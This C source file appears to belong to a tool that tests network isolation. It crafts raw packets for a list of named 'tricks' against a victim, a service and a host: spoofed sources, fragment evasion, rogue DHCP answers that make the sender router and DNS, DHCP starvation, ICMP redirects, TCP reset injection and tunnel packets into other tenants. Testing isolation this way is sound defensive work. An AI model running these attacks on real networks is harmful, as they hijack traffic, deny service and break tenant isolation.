/* IPv4: other senders, options, fragments, tunnels, other people's services. */
#include "tricks.h"

#include <stdlib.h>
#include <string.h>

static const uint8_t *victim_mac(struct world *w) {
    return set(w->victim_mac, 6) ? w->victim_mac : BROADCAST;
}
static const uint8_t *way_out(struct world *w) {
    return set(w->gateway_mac, 6) ? w->gateway_mac : set(w->service_mac, 6) ? w->service_mac : BROADCAST;
}

static void packet(struct world *w, const uint8_t *station, const uint8_t *from, const uint8_t *to, int from_port, int to_port) {
    struct frame f, data = {.length = 0};
    mark(&data, w->trick);
    begin(&f, station, w->mac, 0x0800);
    udp4(&f, from, to, from_port, to_port, data.bytes, data.length);
    transmit(w, &f);
}
static void from_bytes(struct world *w, int a, int b, int c, int d) {
    uint8_t from[4] = {a, b, c, d};
    packet(w, victim_mac(w), from, w->victim, 7777, 7777);
}

static void source_foreign(struct world *w) { from_bytes(w, 203, 0, 113, 77); }
static void source_neighbour(struct world *w) { from_bytes(w, w->ip[0], w->ip[1], w->ip[2], w->ip[3] ^ 0x40); }
static void source_service(struct world *w) { packet(w, victim_mac(w), w->service, w->victim, 53, 7777); }
static void source_metadata(struct world *w) { from_bytes(w, 169, 254, 169, 254); }
static void source_loopback(struct world *w) { from_bytes(w, 127, 0, 0, 1); }
static void source_broadcast(struct world *w) { from_bytes(w, 255, 255, 255, 255); }
static void source_multicast(struct world *w) { from_bytes(w, 224, 0, 0, 1); }
static void source_zero(struct world *w) { from_bytes(w, 0, 0, 0, 0); }
static void source_victim_to_service(struct world *w) { packet(w, w->service_mac, w->victim, w->service, 7777, 53); }
static void source_victim_to_itself(struct world *w) { packet(w, victim_mac(w), w->victim, w->victim, 7777, 7777); }
static void metadata_as_victim(struct world *w) {
    struct frame f;
    uint8_t metadata[4] = {169, 254, 169, 254};
    begin(&f, w->service_mac, w->mac, 0x0800);
    tcp4(&f, w->victim, metadata, 40000, 80, 2);
    mark(&f, w->trick);
    transmit(w, &f);
}
static void reset_others(struct world *w) {
    struct frame f;
    begin(&f, victim_mac(w), w->mac, 0x0800);
    tcp4(&f, w->service, w->victim, 80, 40000, 4);
    mark(&f, w->trick);
    transmit(w, &f);
}
static void loopback_of_host(struct world *w) {
    uint8_t loopback[4] = {127, 0, 0, 1};
    packet(w, w->service_mac, w->ip, loopback, 7777, 53);
}

static void source_route(struct world *w) {
    struct frame f;
    uint8_t options[12] = {131, 11, 4};
    memcpy(options + 3, w->foreign, 4);
    memcpy(options + 7, w->victim, 4);
    begin(&f, way_out(w), w->mac, 0x0800);
    int header = begin_ip4(&f, w->ip, w->victim, 17, options, 12, 0);
    put16(&f, 7777), put16(&f, 7777), put16(&f, 22), put16(&f, 0);
    mark(&f, w->trick);
    end_ip4(&f, header);
    transmit(w, &f);
}
static void record_route(struct world *w) {
    struct frame f;
    uint8_t options[8] = {7, 7, 4};
    begin(&f, victim_mac(w), w->mac, 0x0800);
    int header = begin_ip4(&f, w->foreign, w->victim, 17, options, 8, 0);
    put16(&f, 7777), put16(&f, 7777), put16(&f, 22), put16(&f, 0);
    mark(&f, w->trick);
    end_ip4(&f, header);
    transmit(w, &f);
}

static void fragment(struct world *w, const uint8_t *from, int offset, int more, const void *data, int size, int protocol) {
    struct frame f;
    begin(&f, victim_mac(w), w->mac, 0x0800);
    int header = begin_ip4(&f, from, w->victim, protocol, NULL, 0, offset / 8 | more << 13);
    put(&f, data, size);
    mark(&f, w->trick);
    end_ip4(&f, header);
    transmit(w, &f);
}
/* A first part to a port that may be open, a second one over it with another port. */
static void fragments_overlap(struct world *w) {
    uint8_t head[24] = {0, 68, 0x1e, 0x61, 0, 48}, other[16] = {0, 67, 0, 68, 0, 48};
    fragment(w, w->ip, 0, 1, head, 10, 17);
    fragment(w, w->service, 0, 0, other, 16, 17);
    fragment(w, w->ip, 8, 0, other, 16, 17);
}
static void fragments_tiny(struct world *w) {
    uint8_t part[8] = {0x9c, 0x40, 0, 22, 0, 0, 0x10, 0};
    struct frame f;
    begin(&f, victim_mac(w), w->mac, 0x0800);
    int header = begin_ip4(&f, w->victim, w->victim, 6, NULL, 0, 1 << 13);
    put(&f, part, 8);
    end_ip4(&f, header);
    transmit(w, &f);
    fragment(w, w->victim, 8, 0, "\0\0\0\0\x50\x02\xff\xff\0\0\0\0", 12, 6);
}
static void fragment_without_first(struct world *w) { fragment(w, w->victim, 64, 0, "", 0, 17); }

/* An answer of a DHCP server that makes us the router and the name server of whoever believes it. */
static void dhcp_answer(struct world *w, int kind, const uint8_t *station, const uint8_t *to, const uint8_t *from) {
    struct frame f, data = {.length = 0};
    uint8_t head[12] = {2, 1, 6, 0, 0x59, 0x41, 0x44, 0x4f}, zero[202] = {0};
    put(&data, head, 12);
    put(&data, zero, 4);
    put(&data, w->victim, 4);
    put(&data, from, 4);
    put(&data, zero, 4);
    put(&data, w->victim_mac, 6);
    put(&data, zero, 202);
    put32(&data, 0x63825363);
    put8(&data, 53), put8(&data, 1), put8(&data, kind);
    put8(&data, 54), put8(&data, 4), put(&data, from, 4);
    put8(&data, 3), put8(&data, 4), put(&data, w->ip, 4);
    put8(&data, 6), put8(&data, 4), put(&data, w->ip, 4);
    put8(&data, 255);
    mark(&data, w->trick);
    begin(&f, station, w->mac, 0x0800);
    udp4(&f, from, to, 67, 68, data.bytes, data.length);
    transmit(w, &f);
}
static void dhcp_offer(struct world *w) { dhcp_answer(w, 2, BROADCAST, (const uint8_t *)"\xff\xff\xff\xff", w->ip); }
static void dhcp_ack_unicast(struct world *w) { dhcp_answer(w, 5, victim_mac(w), w->victim, w->ip); }
static void dhcp_ack_as_service(struct world *w) { dhcp_answer(w, 5, victim_mac(w), w->victim, w->service); }
static void dhcp_force_renew(struct world *w) { dhcp_answer(w, 9, victim_mac(w), w->victim, w->service); }

static void dhcp_ask(struct world *w, const uint8_t *hardware, int kind, const uint8_t *wanted) {
    struct frame f, data = {.length = 0};
    uint8_t head[12] = {1, 1, 6, 0, 0x59, 0x41, 0x44, w->trick, 0, 0, 0x80, 0}, zero[202] = {0}, none[4] = {0};
    put(&data, head, 12);
    put(&data, zero, 16);
    put(&data, hardware, 6);
    put(&data, zero, 202);
    put32(&data, 0x63825363);
    put8(&data, 53), put8(&data, 1), put8(&data, kind);
    put8(&data, 61), put8(&data, 7), put8(&data, 1), put(&data, hardware, 6);
    if (wanted) put8(&data, 50), put8(&data, 4), put(&data, wanted, 4);
    put8(&data, 255);
    mark(&data, w->trick);
    begin(&f, BROADCAST, w->mac, 0x0800);
    udp4(&f, none, (const uint8_t *)"\xff\xff\xff\xff", 68, 67, data.bytes, data.length);
    transmit(w, &f);
}
static void dhcp_as_victim(struct world *w) { dhcp_ask(w, w->victim_mac, 1, NULL); }
static void dhcp_release_victim(struct world *w) { dhcp_ask(w, w->victim_mac, 7, w->victim); }
static void dhcp_decline_victim(struct world *w) { dhcp_ask(w, w->victim_mac, 4, w->victim); }
static void dhcp_take_victims_address(struct world *w) { dhcp_ask(w, w->mac, 3, w->victim); }
static void dhcp_starvation(struct world *w) {
    for (int i = 0; i < 500; i++) {
        uint8_t hardware[6] = {0x02, 0xdc, 0, 0, i >> 8, i};
        dhcp_ask(w, hardware, 1, NULL);
    }
}

static void redirect(struct world *w) {
    struct frame f;
    begin(&f, victim_mac(w), w->mac, 0x0800);
    int header = begin_ip4(&f, set(w->gateway, 4) ? w->gateway : w->service, w->victim, 1, NULL, 0, 0), icmp = f.length;
    put8(&f, 5), put8(&f, 1), put16(&f, 0), put(&f, w->ip, 4);
    int inner = begin_ip4(&f, w->victim, w->foreign, 17, NULL, 0, 0);
    put16(&f, 7777), put16(&f, 7777), put16(&f, 8), put16(&f, 0);
    end_ip4(&f, inner);
    uint16_t sum = ~sum16(f.bytes + icmp, f.length - icmp, 0);
    f.bytes[icmp + 2] = sum >> 8, f.bytes[icmp + 3] = sum;
    end_ip4(&f, header);
    mark(&f, w->trick);
    transmit(w, &f);
}
static void igmp_query(struct world *w) {
    struct frame f;
    uint8_t all[4] = {224, 0, 0, 1};
    begin(&f, (const uint8_t *)"\x01\0\x5e\0\0\x01", w->mac, 0x0800);
    int header = begin_ip4(&f, w->service, all, 2, NULL, 0, 0);
    put(&f, "\x11\0\xee\xff\0\0\0\0", 8);
    mark(&f, w->trick);
    end_ip4(&f, header);
    transmit(w, &f);
}

/* A packet of another tenant's world inside one of ours. */
static void tunnel(struct world *w, const uint8_t *to, int protocol, const char *head, int size) {
    struct frame f;
    begin(&f, way_out(w), w->mac, 0x0800);
    int header = begin_ip4(&f, w->ip, to, protocol, NULL, 0, 0);
    put(&f, head, size);
    if (protocol == 41) {
        int inner = begin_ip6(&f, w->ip6, w->foreign6, 59, 64);
        mark(&f, w->trick);
        end_ip6(&f, inner);
    } else {
        struct frame data = {.length = 0};
        mark(&data, w->trick);
        udp4(&f, w->ip, w->foreign, 7777, 7777, data.bytes, data.length);
    }
    end_ip4(&f, header);
    transmit(w, &f);
}
static void gre(struct world *w) { tunnel(w, w->host, 47, "\0\0\x08\0", 4); }
static void ipip(struct world *w) { tunnel(w, w->host, 4, "", 0); }
static void sit(struct world *w) { tunnel(w, w->host, 41, "", 0); }
static void esp(struct world *w) { tunnel(w, w->host, 50, "\0\0\x01\0\0\0\0\x01", 8); }
static void vxlan(struct world *w, const uint8_t *to, int port) {
    struct frame f, inner, data = {.length = 0};
    mark(&data, w->trick);
    uint8_t head[8] = {8, 0, 0, 0, w->vni >> 16, w->vni >> 8, w->vni, 0};
    begin(&inner, BROADCAST, w->mac, 0x0800);
    udp4(&inner, w->ip, w->foreign, 7777, 7777, data.bytes, data.length);
    data.length = 0;
    put(&data, head, 8);
    put(&data, inner.bytes, inner.length);
    begin(&f, way_out(w), w->mac, 0x0800);
    udp4(&f, w->ip, to, 7777, port, data.bytes, data.length);
    transmit(w, &f);
}
static void vxlan_host(struct world *w) { vxlan(w, w->host, 4789); }
static void vxlan_service(struct world *w) { vxlan(w, w->service, 4789); }
static void vxlan_linux_port(struct world *w) { vxlan(w, w->host, 8472); }
static void geneve(struct world *w) { vxlan(w, w->host, 6081); }
static void to_foreign(struct world *w) { packet(w, way_out(w), w->ip, w->foreign, 7777, 7777); }
static void to_foreign_as_its_own(struct world *w) { packet(w, way_out(w), w->foreign, w->foreign, 7777, 7777); }
static void to_host_by_service(struct world *w) { packet(w, w->service_mac, w->ip, w->host, 7777, 53); }
static void protocol_unknown(struct world *w) {
    struct frame f;
    begin(&f, victim_mac(w), w->mac, 0x0800);
    int header = begin_ip4(&f, w->service, w->victim, 253, NULL, 0, 0);
    mark(&f, w->trick);
    end_ip4(&f, header);
    transmit(w, &f);
}

const struct trick ip4_tricks[] = {
    {"ip4-source-foreign", source_foreign, NEEDS_VICTIM},
    {"ip4-source-neighbour", source_neighbour, NEEDS_VICTIM},
    {"ip4-source-service", source_service, NEEDS_VICTIM | NEEDS_SERVICE},
    {"ip4-source-metadata", source_metadata, NEEDS_VICTIM},
    {"ip4-source-loopback", source_loopback, NEEDS_VICTIM},
    {"ip4-source-broadcast", source_broadcast, NEEDS_VICTIM},
    {"ip4-source-multicast", source_multicast, NEEDS_VICTIM},
    {"ip4-source-zero", source_zero, NEEDS_VICTIM},
    {"ip4-source-victim-to-service", source_victim_to_service, NEEDS_VICTIM | NEEDS_SERVICE},
    {"ip4-source-victim-to-itself", source_victim_to_itself, NEEDS_VICTIM},
    {"ip4-metadata-as-victim", metadata_as_victim, NEEDS_VICTIM | NEEDS_SERVICE},
    {"ip4-reset-others", reset_others, NEEDS_VICTIM | NEEDS_SERVICE},
    {"ip4-loopback-of-host", loopback_of_host, NEEDS_SERVICE},
    {"ip4-source-route", source_route, NEEDS_VICTIM | NEEDS_FOREIGN},
    {"ip4-record-route", record_route, NEEDS_VICTIM | NEEDS_FOREIGN},
    {"ip4-fragments-overlap", fragments_overlap, NEEDS_VICTIM | NEEDS_SERVICE},
    {"ip4-fragments-tiny", fragments_tiny, NEEDS_VICTIM},
    {"ip4-fragment-without-first", fragment_without_first, NEEDS_VICTIM},
    {"dhcp-offer", dhcp_offer, NEEDS_VICTIM},
    {"dhcp-ack-unicast", dhcp_ack_unicast, NEEDS_VICTIM},
    {"dhcp-ack-as-service", dhcp_ack_as_service, NEEDS_VICTIM | NEEDS_SERVICE},
    {"dhcp-force-renew", dhcp_force_renew, NEEDS_VICTIM | NEEDS_SERVICE},
    {"dhcp-as-victim", dhcp_as_victim, NEEDS_VICTIM},
    {"dhcp-release-victim", dhcp_release_victim, NEEDS_VICTIM},
    {"dhcp-decline-victim", dhcp_decline_victim, NEEDS_VICTIM},
    {"dhcp-take-victims-address", dhcp_take_victims_address, NEEDS_VICTIM},
    {"dhcp-starvation", dhcp_starvation, 0},
    {"ip4-redirect", redirect, NEEDS_VICTIM | NEEDS_SERVICE | NEEDS_FOREIGN},
    {"igmp-query", igmp_query, NEEDS_SERVICE},
    {"gre-to-host", gre, NEEDS_HOST | NEEDS_FOREIGN},
    {"ipip-to-host", ipip, NEEDS_HOST | NEEDS_FOREIGN},
    {"sit-to-host", sit, NEEDS_HOST | NEEDS_FOREIGN6},
    {"esp-to-host", esp, NEEDS_HOST | NEEDS_FOREIGN},
    {"vxlan-to-host", vxlan_host, NEEDS_HOST | NEEDS_FOREIGN},
    {"vxlan-to-service", vxlan_service, NEEDS_SERVICE | NEEDS_FOREIGN},
    {"vxlan-to-host-8472", vxlan_linux_port, NEEDS_HOST | NEEDS_FOREIGN},
    {"geneve-to-host", geneve, NEEDS_HOST | NEEDS_FOREIGN},
    {"ip4-to-foreign", to_foreign, NEEDS_FOREIGN},
    {"ip4-to-foreign-as-its-own", to_foreign_as_its_own, NEEDS_FOREIGN},
    {"ip4-to-host-by-service", to_host_by_service, NEEDS_SERVICE | NEEDS_HOST},
    {"ip4-protocol-unknown", protocol_unknown, NEEDS_VICTIM | NEEDS_SERVICE},
    {0, 0, 0},
};
